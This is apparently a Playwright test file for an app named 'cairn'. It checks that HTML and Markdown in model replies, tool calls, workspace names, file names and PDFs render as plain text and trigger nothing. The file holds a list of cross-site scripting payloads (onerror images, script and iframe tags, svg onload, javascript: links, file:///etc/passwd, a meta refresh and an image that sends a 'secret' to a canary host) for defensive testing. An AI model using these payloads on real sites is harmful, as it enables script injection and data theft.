import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Locator, Page } from '@playwright/test';
import * as z from 'zod';
import type { RunningApp } from '../support/running-app.ts';
import { startCanary, type Canary } from '../support/canary.ts';
import { hostilePdf } from '../support/hostile-pdf.ts';
import { reply, type Spoken } from '../support/model-server/script.ts';
import { startModelServer } from '../support/model-server/server.ts';
import { call } from './api.ts';
import { expect, test } from './app.ts';

/**
 * What papers, models and names say is shown as text. Each place gets markup that would set a tripwire,
 * open a box or ask the canary if anything took it for more than text.
 */
const SCRIPT = "window.__tripped=[...(window.__tripped??[]),'$']";
const script = (where: string): string => SCRIPT.replace('$', where);
const markup = (where: string): string =>
  `<img src=x onerror="${script(where)}"><b>bold ${where}</b>`;

/** Fails when anything ran, popped up or was asked for. */
async function expectQuiet(page: Page, canary: Canary, boxes: readonly string[]): Promise<void> {
  const tripped: unknown = await page.evaluate(() => Reflect.get(window, '__tripped'));
  expect({ tripped, boxes, heard: canary.heard }).toEqual({
    tripped: undefined,
    boxes: [],
    heard: [],
  });
  const made = await page.evaluate(() => ({
    frames: document.querySelectorAll('iframe, frame, object, embed, webview, base, form[action]')
      .length,
    scripts: [...document.scripts].map(({ src }) => new URL(src).pathname.replace(/-[^/]*$/, '')),
    images: [...document.images]
      .map(({ src }) => src)
      .filter(
        (src) => !/^(blob|data):/.test(src) && src !== new URL('./icon.svg', document.baseURI).href,
      ),
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
    links: [...document.querySelectorAll('a[href]')]
      .map((link) => link.getAttribute('href') ?? '')
      .filter((href) => !/^(#|https?:|mailto:)/.test(href)),
    refresh: document.querySelectorAll('meta[http-equiv="refresh"]').length,
  }));
  expect(made).toEqual({
    frames: 0,
    scripts: ['/markup', '/assets/rolldown', '/assets/start'],
    images: [],
    handlers: [],
    links: [],
    refresh: 0,
  });
}

function watchBoxes(page: Page): string[] {
  const boxes: string[] = [];
  page.on('dialog', (dialog) => {
    boxes.push(dialog.message());
    void dialog.dismiss();
  });
  return boxes;
}

const goTo = (page: Page, place: string): Promise<void> =>
  page.evaluate((hash) => void (location.hash = hash), `#${place}`);

const shows = (where: Locator, words: string) =>
  expect(where.getByText(words).first()).toBeVisible();

const hostileMarkdown = (canary: string): string =>
  [
    'What the model says about spacing.',
    `<script>${script('md-script')}</script>`,
    markup('md-raw'),
    `<iframe srcdoc="<script>parent.${script('md-frame')}</script>"></iframe>`,
    `<svg onload="${script('md-svg')}"><a xlink:href="javascript:${script('md-svg-link')}">x</a></svg>`,
    `<style>@import url(${canary}/style.css); body{display:none}</style>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh"><base href="${canary}/base/">`,
    `<form action="${canary}/form"><button autofocus onfocus="${script('md-focus')}">b</button></form>`,
    `[run me](javascript:${script('md-link').replaceAll(/[()]/g, '')})`,
    '[run me too](JAVASCRIPT:alert%281%29) [page](data:text/html,<script>x</script>)',
    '[local](file:///etc/passwd) [share](smb://host/share) [app](cairn://open) [vb](vbscript:x)',
    `![pixel](${canary}/pixel.png?told=secret) ![vector](data:image/svg+xml;base64,PHN2Zy8+)`,
    `[ref]: javascript:alert(1)\n\nsee [ref] and <javascript:alert(1)>`,
    `| a ${markup('md-table')} | b |\n| --- | --- |\n| ${markup('md-cell')} | [c](javascript:alert%281%29) |`,
    `\`\`\`html\n${markup('md-code')}\n\`\`\``,
    `The last words of the model, with ${canary}/in-words and a footnote[^1].\n\n[^1]: ${markup('md-note')}`,
  ].join('\n\n');

/** A thought, a call with a name and arguments of its own, then the whole of it as the answer. */
function sayings(canary: string): (step: number) => Spoken {
  return (step) =>
    step === 0
      ? {
          reasoning: hostileMarkdown(canary),
          text: `First ${markup('first-text')}.`,
          calls: [
            {
              name: `tool_${markup('tool-name')}`,
              arguments: { [markup('argument-name')]: markup('argument') },
            },
            { name: 'list_files', arguments: `{"folder": "${markup('broken-json')}` },
            { name: 'read_file', arguments: { path: `${markup('path')}.md` } },
          ],
        }
      : { text: hostileMarkdown(canary) };
}

const Server = z.object({ serverId: z.string() });
const Session = z.object({ sessionId: z.string() });
const Workspace = z.object({ path: z.string() });
const Works = z.object({
  works: z.array(z.object({ files: z.array(z.object({ fileId: z.string() })) })),
});

async function useModel(app: RunningApp, port: number): Promise<void> {
  const { serverId } = Server.parse(
    await call(app, 'model.addServer', {
      url: `http://127.0.0.1:${port}`,
      label: markup('server-label'),
    }),
  );
  await call(app, 'assistant.choose', {
    choice: { kind: 'model', serverId, model: markup('model-name') },
  });
}

test('markup in what a model says, calls and answers stays text', async ({ app, cairn }) => {
  const canary = await startCanary();
  const boxes = watchBoxes(cairn);
  const spoken = sayings(canary.address);
  const server = await startModelServer({
    kind: 'other',
    models: [{ id: markup('model-name') }],
    script: ({ messages }) =>
      reply(spoken(messages.filter(({ role }) => role === 'assistant').length)),
  });
  await expect(cairn.getByRole('button', { name: 'Ask this question' })).toBeEnabled();
  await useModel(app, server.port);
  const { sessionId } = Session.parse(
    await call(app, 'session.start', { task: `Why? ${markup('question')}` }),
  );
  await goTo(cairn, `/workbench/${sessionId}`);
  await shows(cairn.getByRole('main'), 'The last words of the model');
  await shows(cairn.getByRole('main'), `<script>${script('md-script')}</script>`);
  await expectQuiet(cairn, canary, boxes);

  await test.step('what looks like a link to something that runs is no link', async () => {
    for (const words of ['run me', 'local', 'share', 'vb'])
      for (const found of await cairn.getByText(words, { exact: true }).all())
        if (await found.isVisible()) await found.click();
    await expectQuiet(cairn, canary, boxes);
  });

  await test.step('every step of the record, opened', async () => {
    for (const details of await cairn.locator('summary, [aria-expanded="false"]').all())
      if (await details.isVisible()) await details.click({ timeout: 2_000 }).catch(() => {});
    await cairn.keyboard.press('Escape');
    await expectQuiet(cairn, canary, boxes);
  });

  await test.step('the list of sessions, the record and the settings of models', async () => {
    await goTo(cairn, '/trajectories');
    await shows(cairn.getByRole('main'), 'bold question');
    await expectQuiet(cairn, canary, boxes);
    await goTo(cairn, `/trajectories/${sessionId}/record`);
    await shows(cairn.getByRole('main'), 'bold question');
    await expectQuiet(cairn, canary, boxes);
    await goTo(cairn, '/settings/assistant');
    await shows(cairn.getByRole('main'), 'bold model-name');
    await expectQuiet(cairn, canary, boxes);
  });
  await server.close();
  await canary.close();
});

test('markup and scripts in a PDF and in names stay text, and nothing a PDF asks for is done', async ({
  app,
  cairn,
}) => {
  const canary = await startCanary();
  const boxes = watchBoxes(cairn);
  await expect(cairn.getByRole('button', { name: 'Ask this question' })).toBeEnabled();
  const { path } = Workspace.parse(
    await call(app, 'workspace.create', {
      path: join(app.home, 'hostile'),
      name: markup('workspace'),
    }),
  );
  // Windows has no such names; there the file is called otherwise, and everything else is the same.
  const name = process.platform === 'win32' ? 'paper.pdf' : '<img src=x onerror=alert(1)>.pdf';
  const folder = join(path, '..', 'papers');
  await mkdir(folder, { recursive: true });
  await writeFile(
    join(folder, name),
    hostilePdf({ script: script('pdf-action'), canary: canary.address }, markup('pdf')),
  );
  await writeFile(join(folder, `x${name}`), 'no PDF');
  await call(app, 'library.import', { paths: [folder] });

  await goTo(cairn, '/library');
  await expect(cairn.getByRole('grid', { name: 'Works' })).toContainText('bold pdf');
  await expect(cairn.getByRole('button', { name: 'bold workspace' })).toBeVisible();
  await expectQuiet(cairn, canary, boxes);
  await cairn.getByRole('grid', { name: 'Works' }).getByText('bold pdf').first().click();
  await expectQuiet(cairn, canary, boxes);

  await test.step('in the reader, its page, links and fields', async () => {
    const works = Works.parse(await call(app, 'work.list', {}));
    const fileId = works.works[0]?.files[0]?.fileId ?? '';
    await goTo(cairn, `/reader/${fileId}`);
    await expect(cairn.getByText('Spaced retrieval practice improves').first()).toBeVisible();
    await cairn.mouse.wheel(0, 400);
    await expectQuiet(cairn, canary, boxes);
  });
  await canary.close();
});
